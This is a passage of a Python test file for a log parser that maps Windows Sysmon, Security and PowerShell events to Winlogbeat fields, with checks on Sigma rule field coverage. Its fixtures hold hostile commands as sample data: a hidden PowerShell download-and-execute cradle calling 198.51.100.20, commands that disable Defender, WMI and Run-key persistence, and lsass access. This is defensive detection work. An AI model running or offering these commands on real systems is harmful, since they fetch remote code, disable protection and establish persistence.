          "Name": "\"upd\"", "Type": "Command Line",
          "Destination": "\"C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\upd.bat\""},
     {"process.executable": "\"C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\upd.bat\"",
      "user.name": "admin.sotn", "event.category": ["process"], "event.type": ["change"],
      "event.action": "WmiEvent (WmiEventConsumer activity detected)"}),
    (21, {"EventType": "WmiBindingEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
          "Consumer": "\"CommandLineEventConsumer.Name=\\\"upd\\\"\"",
          "Filter": "\"__EventFilter.Name=\\\"upd\\\"\""},
     {"user.name": "admin.sotn", "event.type": ["access"],
      "event.action": "WmiEvent (WmiEventConsumerToFilter activity detected)"}),
    (23, {**ACTOR, "TargetFilename": "C:\\Users\\tranthib\\Documents\\baocao.docx",
          "Hashes": f"SHA256={SHA256}", "IsExecutable": "false", "Archived": "true"},
     {**ACTOR_FIELDS, "file.path": "C:\\Users\\tranthib\\Documents\\baocao.docx",
      "file.name": "baocao.docx", "process.hash.sha256": SHA256.lower(),
      "sysmon.file.is_executable": False, "sysmon.file.archived": True,
      "event.category": ["file"], "event.type": ["deletion"],
      "event.action": "FileDelete (File Delete archived)"}),
    (25, {**ACTOR, "Type": "Image is replaced"},
     {**ACTOR_FIELDS, "message": "Image is replaced", "winlog.event_data.Type":
      "Image is replaced", "event.category": ["process"], "event.type": ["change"],
      "event.action": "ProcessTampering (Process image change)"}),
    (26, {**ACTOR, "TargetFilename": TEMP + "stage1.ps1", "Hashes": f"SHA256={SHA256}",
          "IsExecutable": "false"},
     {**ACTOR_FIELDS, "file.path": TEMP + "stage1.ps1", "file.extension": "ps1",
      "process.hash.sha256": SHA256.lower(), "sysmon.file.is_executable": False,
      "sysmon.file.archived": None, "event.category": ["file"], "event.type": ["deletion"],
      "event.action": "FileDeleteDetected (File Delete logged)"}),
])
def test_sysmon_events_carry_the_fields_winlogbeat_writes(
        event_id: int, data: dict[str, str], expected: dict[str, Any]) -> None:
    fields = sysmon(event_id, {"RuleName": "-", "UtcTime": "2026-11-22 02:15:29.871", **data})
    assert subset(fields, expected) == expected
    assert {key[len("winlog.event_data."):]: value for key, value in fields.items()
            if key.startswith("winlog.event_data.")} == {
        "RuleName": "-", "UtcTime": "2026-11-22 02:15:29.871", **data}


@pytest.mark.parametrize(("event_id", "data", "expected"), [
    (12, {"EventType": "CreateKey",
          "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\updsvc"},
     {"registry.path": "HKLM\\System\\CurrentControlSet\\Services\\updsvc",
      "registry.hive": "HKLM", "registry.key": "System\\CurrentControlSet\\Services\\updsvc",
      "registry.value": "updsvc", "registry.data.strings": None, "registry.data.type": None,
      "event.category": ["configuration", "registry"], "event.type": ["change"],
      "event.action": "RegistryEvent (Object create and delete)"}),
    (13, {"EventType": "SetValue",
          "TargetObject": "HKU\\S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\"
                          "CurrentVersion\\Run\\Updater",
          "Details": "C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"},
     {"registry.path": "HKU\\S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\"
                       "CurrentVersion\\Run\\Updater",
      "registry.hive": "HKU",
      "registry.key": "S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\"
                      "Run\\Updater",
      "registry.value": "Updater",
      "registry.data.strings": ["C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"],
      "registry.data.type": "REG_SZ", "event.action": "RegistryEvent (Value Set)",
      "winlog.event_data.Details": "C:\\Users\\tranthib\\AppData\\Roaming\\upd.exe"}),
    (13, {"EventType": "SetValue", "Details": "DWORD (0x0000002a)",
          "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
                          "DisableAntiSpyware"},
     {"registry.value": "DisableAntiSpyware", "registry.data.strings": ["42"],
      "registry.data.type": "SZ_DWORD", "winlog.event_data.Details": "DWORD (0x0000002a)"}),
    (13, {"EventType": "SetValue", "Details": "QWORD (0x00000001-0x00000002)",
          "TargetObject": "HKCU\\Software\\x\\Stamp"},
     {"registry.hive": "HKCU", "registry.data.strings": [str((1 << 32) + 2)],
      "registry.data.type": "SZ_QWORD"}),
    (13, {"EventType": "SetValue", "Details": "Binary Data",
          "TargetObject": "\\REGISTRY\\MACHINE\\SOFTWARE\\x\\Blob"},
     {"registry.hive": None, "registry.key": None, "registry.value": "Blob",
      "registry.data.strings": ["Binary Data"], "registry.data.type": "REG_BINARY"}),
    (14, {"EventType": "RenameKey", "TargetObject": "HKLM\\SOFTWARE\\Old",
          "NewName": "HKLM\\SOFTWARE\\New"},
     {"registry.path": "HKLM\\SOFTWARE\\Old", "registry.value": "Old",
      "winlog.event_data.NewName": "HKLM\\SOFTWARE\\New", "registry.data.strings": None,
      "event.action": "RegistryEvent (Key and Value Rename)"}),
])
def test_sysmon_registry_events(event_id: int, data: dict[str, str],
                                expected: dict[str, Any]) -> None:
    fields = sysmon(event_id, {**ACTOR, **data})
    assert subset(fields, {**ACTOR_FIELDS, **expected}) == {**ACTOR_FIELDS, **expected}


def test_a_tampering_event_keeps_its_rendered_message() -> None:
    fields = parse({"@timestamp": "2026-11-22T02:15:30Z", "message": "Process Tampering:",
                    "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational",
                               "event_id": 25, "event_data": {**ACTOR, "Type": "Image is locked "
                                                              "for access"}}})
    assert fields["message"] == "Process Tampering:"


# ------------------------------------------------------------------ Security 4697 and 4688

def test_service_installed_names_the_service() -> None:
    fields = security(4697, {
        "SubjectUserSid": "S-1-5-21-1-2-3-500", "SubjectUserName": "admin.sotn",
        "SubjectDomainName": "SOTN", "SubjectLogonId": "0x8c01", "ServiceName": "PSEXESVC",
        "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "0x10",
        "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})
    expected = {
        "service.name": "PSEXESVC", "service.type": "Win32 Own Process",
        "winlog.event_data.ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
        "user.name": "admin.sotn", "user.id": "S-1-5-21-1-2-3-500", "winlog.logon.id": "0x8c01",
        "event.category": ["iam", "configuration"], "event.type": ["admin", "change"],
        "event.action": "service-installed", "file.path": None, "process.executable": None}
    assert subset(fields, expected) == expected
    driver = security(4697, {"ServiceName": "gdrv", "ServiceType": "0x00000001"})
    unknown = security(4697, {"ServiceName": "x", "ServiceType": "0x3000"})
    assert (driver["service.type"], unknown["service.type"]) == ("Kernel Driver", "0x3000")


def test_process_creation_parent_is_full_path_and_name_as_in_winlogbeat() -> None:
    fields = security(4688, {"NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                             "NewProcessId": "0x1a2c", "ProcessId": "0x13f0",
                             "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"})
    assert subset(fields, {"process.parent.executable": 0, "process.parent.name": 0,
                           "process.parent.pid": 0, "process.name": 0}) == {
        "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.parent.name": "cmd.exe", "process.parent.pid": 0x13F0,
        "process.name": "whoami.exe"}


def test_no_address_is_no_source_field() -> None:
    fields = security(4625, {"TargetUserName": "administrator", "LogonType": "2",
                             "IpAddress": "-", "IpPort": "-", "WorkstationName": "-"})
    assert subset(fields, {"source.ip": 0, "source.port": 0, "source.domain": 0,
                           "related.ip": 0, "winlog.event_data.IpAddress": 0}) == {
        "source.ip": None, "source.port": None, "source.domain": None, "related.ip": None,
        "winlog.event_data.IpAddress": "-"}


# --------------------------------------------------------------------------------- PowerShell

POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
SCRIPT = ("$u = 'http://198.51.100.20/a.ps1'; IEX (New-Object Net.WebClient)"
          ".DownloadString($u)")
WINLOGBEAT_4104 = {
    "@timestamp": "2026-11-22T02:20:00.000Z",
    "winlog": {"channel": POWERSHELL, "event_id": 4104, "record_id": 7710,
               "provider_name": "Microsoft-Windows-PowerShell",
               "computer_name": "ws-tn-015.sotn.gov.vn",
               "user": {"identifier": "S-1-5-21-1-2-3-1107"},
               "event_data": {"MessageNumber": "1", "MessageTotal": "3",
                              "ScriptBlockText": SCRIPT,
                              "ScriptBlockId": "2911f180-ac92-4970-9dd7-55c8c07ee22c",
                              "Path": "C:\\Users\\tranthib\\Downloads\\out.ps1"}},
}
HOST_APPLICATION = ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w "
                    "hidden -c $u='http://198.51.100.20/a?id=7'; IEX (New-Object "
                    "Net.WebClient).DownloadString($u)")
CONTEXT_INFO = (
    "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
    "        Host Version = 5.1.19041.4291\r\n"
    "        Host ID = 1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
    f"        Host Application = {HOST_APPLICATION}\r\n"
    "        Engine Version = 5.1.19041.4291\r\n"
    "        Runspace ID = 4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22\r\n        Pipeline ID = 1\r\n"
    "        Command Name = New-Object\r\n        Command Type = Cmdlet\r\n"
    "        Script Name = \r\n        Command Path = \r\n        Sequence Number = 16\r\n"
    "        User = SOTN\\tranthib\r\n        Connected User = \r\n"
    "        Shell ID = Microsoft.PowerShell\r\n")
PAYLOAD = ('CommandInvocation(New-Object): "New-Object"\r\n'
           'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"\r\n')


def powershell_event(channel: str, event_id: int, data: dict[str, str]) -> dict[str, Any]:
    return parse({"@timestamp": "2026-11-22T02:20:00.000Z",
                  "winlog": {"channel": channel, "event_id": event_id, "event_data": data,
                             "user": {"identifier": "S-1-5-21-1-2-3-1107"}}})


def test_script_block_logging() -> None:
    fields = parse(WINLOGBEAT_4104)
    expected = {
        "event.dataset": "windows.powershell", "event.code": "4104",
        "event.category": ["process"], "event.type": ["info"], "event.action": None,
        "powershell.file.script_block_text": SCRIPT,
        "powershell.file.script_block_id": "2911f180-ac92-4970-9dd7-55c8c07ee22c",
        "powershell.sequence": 1, "powershell.total": 3,
        "file.path": "C:\\Users\\tranthib\\Downloads\\out.ps1", "file.name": "out.ps1",
        "file.directory": "C:\\Users\\tranthib\\Downloads", "file.extension": "ps1",
        "user.id": "S-1-5-21-1-2-3-1107", "winlog.event_data.ScriptBlockText": SCRIPT,
        "winlog.event_data.Path": "C:\\Users\\tranthib\\Downloads\\out.ps1",
    }
    assert subset(fields, expected) == expected
    interactive = powershell_event(POWERSHELL, 4104, {"MessageNumber": "1", "MessageTotal": "1",
                                                      "ScriptBlockText": "Get-Date", "Path": ""})
    assert subset(interactive, {"file.path": 0, "powershell.total": 0}) == {
        "file.path": None, "powershell.total": 1}


def test_module_logging_reads_context_info() -> None:
    fields = powershell_event(POWERSHELL, 4103, {"ContextInfo": CONTEXT_INFO, "UserData": "",
                                                 "Payload": PAYLOAD})
    expected = {
        "process.command_line": HOST_APPLICATION, "process.title": "ConsoleHost",
        "process.entity_id": "1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11",
        "powershell.process.executable_version": "5.1.19041.4291",
        "powershell.engine.version": "5.1.19041.4291",
        "powershell.runspace_id": "4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22",
        "powershell.pipeline_id": "1", "powershell.command.name": "New-Object",
        "powershell.command.type": "Cmdlet", "powershell.command.path": None,
        "powershell.id": "Microsoft.PowerShell", "event.sequence": 16,
        "user.name": "tranthib", "user.domain": "SOTN", "user.id": "S-1-5-21-1-2-3-1107",
        "source.user.name": None, "destination.user.name": None,
        # Payload goes where pySigma's pipeline sends ps_module rules' Payload.
        "powershell.file.script_block_text": PAYLOAD, "file.path": None,
        "winlog.event_data.ContextInfo": CONTEXT_INFO, "winlog.event_data.Payload": PAYLOAD,
        "winlog.event_data.HostApplication": None, "related.user": ["tranthib"],
        "event.category": ["process"], "event.type": ["info"],
    }
    assert subset(fields, expected) == expected


def test_module_logging_of_a_remote_session_and_a_long_host_application() -> None:
    context = CONTEXT_INFO.replace(
        "Connected User = ", "Connected User = SOTN\\admin.sotn").replace(
        f"Host Application = {HOST_APPLICATION}\r\n",
        "Host Application = powershell.exe -c \"a\r\n  b=c\"\r\n").replace(
        "Script Name = ", "Script Name = C:\\Scripts\\kiemke.ps1")
    fields = powershell_event(POWERSHELL, 4103, {"ContextInfo": context})
    assert subset(fields, {"user.name": 0, "source.user.name": 0, "source.user.domain": 0,
                           "destination.user.name": 0, "destination.user.domain": 0,
                           "process.command_line": 0, "file.path": 0, "file.name": 0,
                           "powershell.file.script_block_text": 0}) == {
        "user.name": "admin.sotn", "source.user.name": "admin.sotn",
        "source.user.domain": "SOTN", "destination.user.name": "tranthib",
        "destination.user.domain": "SOTN", "process.command_line": "powershell.exe -c \"a\nb=c\"",
        "file.path": "C:\\Scripts\\kiemke.ps1", "file.name": "kiemke.ps1",
        "powershell.file.script_block_text": None}


CLASSIC = "Windows PowerShell"
PROVIDER_600 = ("\tProviderName=Registry\r\n\tNewProviderState=Started\r\n\r\n"
                "\tSequenceNumber=1\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.4291"
                "\r\n\tHostId=1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
                "\tHostApplication=powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring"
                " $true\r\n\tEngineVersion=\r\n\tRunspaceId=\r\n\tPipelineId=\r\n"
                "\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n"
                "\tCommandLine=")
PIPELINE_800 = ("\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=15\r\n\r\n"
                "\tUserId=SOTN\\tranthib\r\n\tHostName=ConsoleHost\r\n"
                "\tHostVersion=5.1.19041.4291\r\n\tHostId=1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11\r\n"
                "\tHostApplication=powershell.exe\r\n\tEngineVersion=5.1.19041.4291\r\n"
                "\tRunspaceId=4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22\r\n\tPipelineId=3\r\n"
                "\tScriptName=\r\n\tCommandLine=Get-Process -Name lsass\r\n")


@pytest.mark.parametrize(("event_id", "data", "expected"), [
    (600, {"param1": "Registry", "param2": "Started", "param3": PROVIDER_600},
     {"powershell.provider.name": "Registry", "powershell.provider.new_state": "Started",
      "event.sequence": 1, "process.title": "ConsoleHost",
      "powershell.process.executable_version": "5.1.19041.4291",
      "process.entity_id": "1b6c4c0e-5f0d-4f36-9d7e-3e2b8b5c1a11",
      "process.command_line": "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring "
                              "$true",
      "powershell.engine.version": None, "powershell.command.value": None,
      "winlog.event_data.Data": ["Registry", "Started", PROVIDER_600],
      "event.category": ["process"], "event.type": ["info"]}),
    (800, {"param1": "Get-Process -Name lsass", "param2": PIPELINE_800,
           "param3": "CommandInvocation(Get-Process): \"Get-Process\"\r\n"},
     {"powershell.sequence": 1, "powershell.total": 1, "event.sequence": 15,
      "user.name": "tranthib", "user.domain": "SOTN", "process.command_line": "powershell.exe",
      "powershell.engine.version": "5.1.19041.4291", "powershell.pipeline_id": "3",
      "powershell.runspace_id": "4c1f2a3b-0000-4c1f-9d7e-3e2b8b5c1a22",
      "powershell.command.value": "Get-Process -Name lsass", "user.id": None,
      "event.type": ["info"], "winlog.event_data.param1": "Get-Process -Name lsass"}),
])
def test_classic_powershell_reads_its_data_text(event_id: int, data: dict[str, str],
                                                expected: dict[str, Any]) -> None:
    fields = powershell_event(CLASSIC, event_id, data)
    assert subset(fields, {**expected, "event.dataset": 0}) == {
        **expected, "event.dataset": "windows.windows_powershell"}


def test_the_fields_pysigma_maps_sysmon_powershell_and_service_rules_to_are_there() -> None:
    image_load = sigma_fields("""
title: unsigned module from temp
logsource: {product: windows, category: image_load}
detection:
  sel: {ImageLoaded|endswith: '\\wtsapi32.dll', Image|endswith: '\\rundll32.exe',
        Signed: 'false', SignatureStatus: Unavailable, OriginalFileName: wtsapi32.dll,
        Description|contains: Remote, Imphash: 741776aaccfc5b71ff59832dcdcace0f}
  condition: sel
""")
    assert image_load == {"file.path", "process.executable", "file.code_signature.signed",
                          "file.code_signature.status", "file.pe.original_file_name",
                          "file.pe.description", "file.pe.imphash"}
    assert image_load <= sysmon(7, {**ACTOR, "ImageLoaded": TEMP + "wtsapi32.dll",
                                    "Signed": "false", "SignatureStatus": "Unavailable",
                                    "OriginalFileName": "wtsapi32.dll", "Description": "Remote",
                                    "Hashes": "IMPHASH=741776AACCFC5B71FF59832DCDCACE0F"}).keys()
    cases = [
        ("process_access", "SourceImage|endswith: x, TargetImage|endswith: lsass.exe",
         sysmon(10, {"SourceImage": TEMP + "x", "TargetImage": "lsass.exe"})),
        ("create_remote_thread", "SourceImage|endswith: x, TargetImage|endswith: lsass.exe",
         sysmon(8, {"SourceImage": TEMP + "x", "TargetImage": "lsass.exe"})),
        ("registry_set", "TargetObject|contains: Run, Details|contains: upd",
         sysmon(13, {"TargetObject": "HKLM\\Run\\u", "Details": "upd"})),
        ("pipe_created", "PipeName: '\\PSEXESVC'", sysmon(17, {"PipeName": "\\PSEXESVC"})),
        ("driver_load", "ImageLoaded|endswith: '.sys', Hashes|contains: 'SHA256='",
         sysmon(6, {"ImageLoaded": "C:\\d.sys", "Hashes": f"SHA256={SHA256}"})),
        ("file_delete", "TargetFilename|endswith: '.ps1'", sysmon(23, {"TargetFilename": "a.ps1"})),
        ("raw_access_thread", "Device|contains: Harddisk", sysmon(9, {"Device": "\\Device\\H"})),
        ("wmi_event", "Destination|contains: cmd", sysmon(20, {"Destination": "cmd"})),
        ("ps_script", "ScriptBlockText|contains: IEX", parse(WINLOGBEAT_4104)),
        ("ps_module", "Payload|contains: WebClient, ContextInfo|contains: hidden",
         powershell_event(POWERSHELL, 4103, {"ContextInfo": CONTEXT_INFO, "Payload": PAYLOAD})),
        ("ps_classic_provider_start", "Data|contains: Set-MpPreference, HostApplication: x",
         powershell_event(CLASSIC, 600, {"param3": PROVIDER_600})),
    ]
    for category, selection, event in cases:
        fields = sigma_fields(f"""
title: {category}
logsource: {{product: windows, category: {category}}}
detection:
  sel: {{{selection}}}
  condition: sel
""")
        assert fields <= event.keys(), (category, fields - event.keys())
    service = sigma_fields("""
title: psexec service
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4697, ServiceName: PSEXESVC, ServiceFileName|endswith: '\\PSEXESVC.exe'}
  condition: sel
""")
    assert service - {"winlog.channel"} <= security(4697, {
        "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe"}).keys()
